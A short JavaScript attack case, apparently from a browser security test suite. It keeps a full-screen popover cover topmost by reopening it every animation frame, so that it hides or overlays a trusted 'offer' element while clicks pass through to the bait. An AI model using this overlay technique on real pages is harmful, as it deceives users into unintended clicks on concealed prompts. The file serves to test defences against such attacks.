/* Attack: the covering popover is opened anew in every frame, so that it wins against an offer that comes back on top. */
import { lure, mine } from "../lure.js";

lure({
  onOffer: () => {},
  onBait: (bait) => {
    const cover = mine(document.createElement("div"));
    cover.popover = "manual";
    Object.assign(cover.style, {
      position: "fixed",
      inset: "0",
      width: "100vw",
      height: "100vh",
      border: "0",
      padding: "0",
      background: "white",
      pointerEvents: "none",
    });
    cover.append(bait);
    document.body.append(cover);
    const again = () => {
      if (cover.matches(":popover-open")) {
        cover.hidePopover();
      }
      cover.showPopover();
      requestAnimationFrame(again);
    };
    again();
  },
});
